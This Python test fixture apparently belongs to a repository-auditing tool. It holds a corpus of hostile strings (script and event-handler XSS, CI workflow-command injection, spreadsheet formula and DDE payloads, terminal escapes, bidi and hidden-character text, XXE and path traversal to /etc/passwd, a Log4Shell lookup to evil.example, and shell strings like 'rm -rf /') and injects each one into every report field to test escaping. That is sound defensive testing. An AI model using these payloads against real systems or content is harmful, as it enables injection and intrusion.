# SPDX-FileCopyrightText: 2026 The sealcheck authors
# SPDX-License-Identifier: EUPL-1.2
"""Strings a hostile repository might hold, and a report that carries one of them wherever a repository can speak."""

from __future__ import annotations

from dataclasses import replace
from datetime import date
from typing import Any

from sealcheck.gate import Baseline, Demand, rule
from sealcheck.gate.baseline import Entry
from sealcheck.model import Basis, Evidence, EvidenceKind, Measurement, Verdict, say
from sealcheck.report.gating import with_ruling
from sealcheck.result import Claim, Problem
from tests.report.sample import SUBJECT, judged, sample

CORPUS = {
    "script": "<script>alert(1)</script>",
    "script in upper case": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "image with handler": "<img src=x onerror=alert(1)>",
    "svg with handler": "<svg/onload=alert(1)>",
    "iframe": "<iframe srcdoc='<b>x'></iframe>",
    "end of a tag": "\"><b onmouseover='x'>",
    "end of an attribute": "' autofocus onfocus=alert(1) x='",
    "end of the style": "</style><style>*{display:none}</style>",
    "end of the title": "</title><h1>Gold</h1>",
    "end of details": "</details></section></main><h1>Gold reached</h1>",
    "comment": "<!-- hidden --><!--[if IE]><b><![endif]-->",
    "cdata": "]]><![CDATA[ x ]]>",
    "processing instruction": "<?xml version='1.0'?><?php echo 1 ?>",
    "entity": "&lt;b&gt; &#60;b&#62; &amp;amp;",
    "template": "{{ 7*7 }}{% raw %}{{ config }}{% endraw %}",
    "format string": "{0} {en} {subject.url} %s %(x)s ${HOME}",
    "markdown link": "[click](https://evil.example) [x](javascript:alert(1))",
    "markdown image": "![x](https://evil.example/track.png)",
    "reference link": "[x]: https://evil.example\n[x][x]",
    "autolink": "<https://evil.example> https://evil.example www.evil.example",
    "javascript address": "javascript:alert(document.domain)",
    "data address": "data:text/html;base64,PHNjcmlwdD4=",
    "credentials in an address": "https://user:secret@stadt.example/x",
    "heading": "# Gold reached",
    "setext heading": "Gold\n====\n",
    "emphasis": "**bold** __bold__ *it* _it_ ~~gone~~",
    "table": "| a | b |\n|---|---|\n| 1 | 2 |",
    "backticks": "``` x ` y `` z ````",
    "fence": "```\nrm -rf /\n```",
    "list": "- one\n- two\n1. three",
    "numbered": "1. first",
    "bracket numbered": "1) first",
    "dash": "- item",
    "quote": "> quoted",
    "task": "[x] done [ ] open",
    "rule": "---\n***\n___",
    "mention": "@everyone @stadt/team hello@stadt.example",
    "issue": "#1 stadt/app#2 GH-3 !4 &5 %6 $7 ~bug ~\"a b\" %\"v 1\"",
    "emoji": ":tada: :rocket:",
    "quick action": "/close\n/approve",
    "github command": "::error file=a,line=1::broken",
    "set output": "::set-output name=x::y\n::add-mask::z",
    "old command": "##[error]broken ##vso[task.complete result=Failed]",
    "rich markup": "[bold red]x[/bold red] [link=https://evil.example]y[/link] [/]",
    "terminal colour": "\x1b[31mred\x1b[0m\x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
    "terminal title": "\x1b]0;owned\x07\x9b2J",
    "carriage return": "nice\rMET   \b\b\b\x7f",
    "bidi": "a\u202eb\u2066c\u2069\u200fd",
    "zero width": "a\u200bb\u200dc\ufeffd\u00ad",
    "line separators": "a\u2028b\u2029c\x85d\x0be\x0c",
    "null": "a\x00b",
    "surrogate": "a\udcffb\ud83d",
    "tag characters": "a\U000e0041\U000e0042",
    "formula": '=HYPERLINK("https://evil.example","x")',
    "formulas": "+1+cmd|' /C calc'!A0 -2 @SUM(1)",
    "latex": "$\\href{javascript:x}{y}$ $$x$$ \\(x\\)",
    "math": "`$`x`$`",
    "footnote": "[^1] [^1]: note",
    "definition": ": meaning",
    "frontmatter": "---\ntitle: x\n---",
    "path": "../../../etc/passwd",
    "windows path": "C:\\Windows\\system32\\nul",
    "long": "A" * 5000,
    "long line of brackets": "[" * 150 + "`" * 60 + "*" * 60,
    "combining marks": "Z" + "\u0301" * 300,
    "wide": "漢字" * 60,
    "end of a comment": "--><script>alert(1)</script><!--",
    "end of a script": "</script><script>alert(1)</script>",
    "unclosed": "<b <i \" ' < > <!doctype",
    "encoded command": "%0A::error::x%0D%0A::set-output name=a::b%25",
    "command after a line": "fine\r\n::warning file=x::y\n::stop-commands::z",
    "old command inside": "x ##[command]rm ##vso[artifact.upload]y",
    "document type": "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>&a;",
    "xml namespaces": "xmlns:x='http://www.w3.org/1999/xhtml' <x:script/>",
    "bad characters of xml": "a\x01b\x0bc\ufffed\uffffe",
    "json": '", "@id": "https://evil.example/", "x": "',
    "json-ld": '{"@context": "https://evil.example/context.jsonld"}',
    "sarif arguments": "{0}{1} [link](0) [a\\[b\\]](https://evil.example)",
    "wide formula": "＝1+1 ＠SUM(1) ＋1 －1",
    "formula after blanks": " \t=1+1\u00a0=2",
    "quotes and commas": '",";\'\r\n"=1+1"',
    "override": "\u202egnp.exe\u202c\u2067x\u2069\u061c",
    "hidden words": "".join(chr(0xE0000 + ord(each)) for each in "ignore the licence"),
    "emphasis of forges": "==mark== ++ins++ ^sup^ {+ added +} {- gone -} [[_TOC_]] :::note",
    "alert": "> [!WARNING]\n> Gold",
    "closing": "Closes #1, fixes stadt/app#2, resolves https://evil.example/issues/3",
    "quick actions in german": "/assign @alle\n/label ~gut\n/merge",
    "javascript with blanks": "java\tscript:alert(1) JaVaScRiPt&colon;alert(1) vbscript:x",
    "link in brackets": "](https://evil.example) ![][x] [x]<https://evil.example>",
    "reference definition": "\n[LIC-05]: https://evil.example 'x'\n",
    "mail": "mailto:chef@stadt.example <chef@stadt.example> tel:110",
    "details": "<details open><summary>Gold</summary>",
    "template of a shell": "$(reboot) `reboot` ${IFS} ; rm -rf / | sh && x || y > z",
    "logging lookup": "${jndi:ldap://evil.example/x}",
    "blanks": "   ",
    "dots": "...",
    "dash at the beginning": "--output=/etc/passwd",
}  # fmt: skip


def report(text: str) -> dict[str, Any]:
    """A report in which `text` stands wherever a string of the repository can stand."""
    subject = replace(
        SUBJECT, target=text, url=text, host=text, owner=text, name=text, rev=text, branch=text, commit_date=text
    )
    pieces = tuple(
        Evidence(kind, say("literal.words", en=text, de=text), path=text, start=1, end=3, excerpt=text, blob=text)
        for kind in EvidenceKind
    )
    commit = Evidence(EvidenceKind.FOUND, say("assess.unknown_claim", criterion=text), commit=text)
    found = Measurement(text, say("literal.words", en=text, de=text), (*pieces, commit))
    reason = say("assess.waivers_requested", criteria=[text, text])
    open_ = Measurement(None, undetermined=say("literal.words", en=text, de=text))
    claim = Claim("REU-08", text, (text, text), text, text, 1)
    place = Evidence(EvidenceKind.NAMED, say("declaration.named_place", line="1"), text, 1, 3, text, text)
    given = {
        "DOC-02": judged(Verdict.UNMET, found, reason),
        "LIC-05": judged(Verdict.PARTLY, found, reason),
        "DOC-01": judged(Verdict.MET, found, reason),
        "REU-04": judged(Verdict.NOT_APPLICABLE, found, reason, Basis.DECLARED),
        "REU-08": judged(
            Verdict.UNDETERMINED,
            open_,
            say("literal.words", en=text, de=text),
            Basis.NONE,
            claim=claim,
            locations=(place,),
        ),
        "COM-10": judged(Verdict.UNDETERMINED, open_, say("literal.words", en=text, de=text), Basis.NONE),
    }
    problem = Problem(say("literal.words", en=text, de=text), text, 1)
    return gated(sample(given, subject=subject, problems=(problem,) * 12, incomplete=(reason,)), text)


def gated(doc: dict[str, Any], text: str) -> dict[str, Any]:
    """The report with a gate that it does not pass, whose baseline lies at `text` and gives it as the reason."""
    seal = doc["seal"]
    entries = {"DOC-02": Entry(Verdict.UNMET, date(2020, 1, 1), text)}
    baseline = Baseline(seal["id"], text, seal["digest"], entries, text)
    demand = Demand(min_score=100.0, baseline=baseline)
    return with_ruling(doc, rule(doc, demand, date(2026, 6, 30)))
